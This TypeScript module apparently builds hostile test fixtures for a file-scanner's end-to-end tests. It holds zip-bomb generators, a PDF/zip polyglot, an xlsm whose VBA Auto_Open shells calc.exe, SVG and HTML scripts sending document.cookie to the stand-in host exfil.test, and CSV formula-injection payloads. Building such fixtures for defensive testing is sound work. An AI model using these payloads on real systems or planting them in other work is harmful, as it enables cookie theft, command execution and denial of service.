import { randomBytes } from 'node:crypto';
import { constants, crc32, deflateRawSync } from 'node:zlib';

// Hostile files for e2e/hostile-files.e2e-spec.ts, built in the test: nothing hostile is checked in.

// Split so that no scanner of the repository flags this file itself.
export const EICAR = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''), 'latin1');

type Entry = {
  name: string;
  /** The member's bytes, or (for members too large to hold) what is already known about them. */
  data?: Buffer;
  deflated?: { body: Buffer; crc: number; size: number };
  method?: 'stored' | 'deflate';
  /** PKWARE traditional encryption (general purpose flag bit 0); the body is then opaque bytes. */
  encrypted?: boolean;
  /** Sizes and CRC after the data (flag bit 3), as streaming writers do: the reader cannot refuse up front. */
  dataDescriptor?: boolean;
};

const u16 = (n: number) => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
};
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};

/**
 * A zip written the way the zip format says (local headers, central directory, end record), with
 * the options hostile archives use. Small on purpose: libs/disclosure/rules has the fuller builder
 * for malformed archives, this one only needs members it never holds in memory (bombs).
 */
export function zip(entries: Entry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const deflate = entry.method !== 'stored';
    const { body, crc, size } = entry.deflated ?? {
      body: deflate ? deflateRawSync(entry.data ?? Buffer.alloc(0)) : (entry.data ?? Buffer.alloc(0)),
      crc: crc32(entry.data ?? Buffer.alloc(0)),
      size: entry.data?.length ?? 0,
    };
    const flags = (entry.encrypted ? 0x0001 : 0) | (entry.dataDescriptor ? 0x0008 : 0) | 0x0800;
    const method = deflate ? 8 : 0;
    const name = Buffer.from(entry.name, 'utf8');
    const [hCrc, hCsize, hSize] = entry.dataDescriptor ? [0, 0, 0] : [crc, body.length, size];
    const local = Buffer.concat([
      u32(0x04034b50),
      u16(20),
      u16(flags),
      u16(method),
      u16(0),
      u16(0x21),
      u32(hCrc),
      u32(hCsize),
      u32(hSize),
      u16(name.length),
      u16(0),
      name,
    ]);
    const descriptor = entry.dataDescriptor ? Buffer.concat([u32(0x08074b50), u32(crc), u32(body.length), u32(size)]) : Buffer.alloc(0);
    central.push(
      Buffer.concat([
        u32(0x02014b50),
        u16(20),
        u16(20),
        u16(flags),
        u16(method),
        u16(0),
        u16(0x21),
        u32(crc),
        u32(body.length),
        u32(size),
        u16(name.length),
        u16(0),
        u16(0),
        u16(0),
        u16(0),
        u32(0),
        u32(offset),
        name,
      ]),
    );
    parts.push(local, body, descriptor);
    offset += local.length + body.length + descriptor.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.concat([u32(0x06054b50), u16(0), u16(0), u16(central.length), u16(central.length), u32(directory.length), u32(offset), u16(0)]);
  return Buffer.concat([...parts, directory, end]);
}

/**
 * `mib` MiB of zeros as raw DEFLATE, without deflating them all: one MiB deflated with a full
 * flush is a byte-aligned segment that starts afresh, so the segment repeated is a valid stream
 * of any length, closed by an empty final block. About 1,000:1, deflate's best.
 */
export function deflatedZeros(mib: number): { body: Buffer; crc: number; size: number } {
  const mebibyte = Buffer.alloc(1 << 20);
  const segment = deflateRawSync(mebibyte, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const final = deflateRawSync(Buffer.alloc(0));
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = crc32(mebibyte, crc);
  return { body: Buffer.concat([...Array.from({ length: mib }, () => segment), final]), crc, size: mib * (1 << 20) };
}

/** A flat bomb: one member of 1 GiB of zeros, its size only after the data. */
export const flatBomb = (zeros = deflatedZeros(1024)) => zip([{ name: 'zeros.bin', deflated: zeros, dataDescriptor: true }]);

/** 42.zip's idea: sixteen copies of a bomb inside one archive. */
export const nestedBomb = (zeros: ReturnType<typeof deflatedZeros>) => {
  const inner = zip([{ name: 'zeros.bin', deflated: zeros }]);
  return zip(Array.from({ length: 16 }, (_, i) => ({ name: `layer-${i}.zip`, data: inner })));
};

export const nestedZip = (depth: number, member: Entry): Buffer =>
  depth === 1 ? zip([member]) : zip([{ name: `level-${depth - 1}.zip`, data: nestedZip(depth - 1, member) }]);

/** A zip whose member is flagged encrypted: its bytes cannot be read without the password. */
export const encryptedZip = () => zip([{ name: 'secret.csv', data: randomBytes(200), method: 'stored', encrypted: true }]);

/** A valid PDF header and body that is also a valid zip (the zip's offsets count from the file start). */
export function pdfZipPolyglot(): Buffer {
  const pdf = Buffer.from(
    '%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
    'latin1',
  );
  const archive = zip([{ name: 'hidden.csv', data: Buffer.from('patient_id,postcode\nP1,SW1A 1AA\n') }]);
  // Shift the central directory's offsets by the PDF in front, as polyglot tools do.
  const shifted = Buffer.from(archive);
  const endAt = shifted.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const directoryAt = shifted.readUInt32LE(endAt + 16);
  shifted.writeUInt32LE(directoryAt + pdf.length, endAt + 16);
  for (let at = directoryAt; shifted.readUInt32LE(at) === 0x02014b50; at += 46 + shifted.readUInt16LE(at + 28)) {
    shifted.writeUInt32LE(shifted.readUInt32LE(at + 42) + pdf.length, at + 42);
  }
  return Buffer.concat([pdf, shifted]);
}

/** A macro-enabled workbook: the xlsm content type and a VBA project beside an innocent sheet. */
export function xlsmWithMacros(): Buffer {
  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
  const text = (name: string, xml: string): Entry => ({ name, data: Buffer.from(xml) });
  return zip([
    text(
      '[Content_Types].xml',
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    ),
    text('_rels/.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'),
    text('xl/workbook.xml', `<workbook ${ns} ${rel}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    text(
      'xl/_rels/workbook.xml.rels',
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    text(
      'xl/worksheets/sheet1.xml',
      `<worksheet ${ns}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ward</t></is></c><c r="B1" t="inlineStr"><is><t>count</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>A</t></is></c><c r="B2"><v>120</v></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>B</t></is></c><c r="B3"><v>98</v></c></row></sheetData></worksheet>`,
    ),
    // An OLE compound file header is enough: no macro needs to run for the file to carry one.
    {
      name: 'xl/vbaProject.bin',
      data: Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.from('Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc.exe"\nEnd Sub\n'),
      ]),
    },
  ]);
}

export const SVG_WITH_SCRIPT =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://exfil.test/?"+document.cookie)</script><rect width="10" height="10"/></svg>\n';
export const HTML_WITH_SCRIPT =
  '<!DOCTYPE html>\n<html><head><title>Results</title></head><body><table><tr><td>A</td><td>120</td></tr></table><script>fetch("https://exfil.test/?"+document.cookie)</script></body></html>\n';
export const CSV_FORMULAS = "ward,count\n=cmd|' /C calc'!A0,120\n+cmd|' /C calc'!A0,98\n-2+3+cmd|' /C calc'!A0,57\n@SUM(1+9)*cmd|' /C calc'!A0,44\n";
export const CLEAN_TABLE = 'ward,admissions_2024,admissions_2025\nA,120,134\nB,98,101\nC,57,66\n';

/** Bytes that are none of the types the rules read, past the scanner's limit set for the test. */
export const pastScannerLimit = (bytes: number) => randomBytes(bytes);
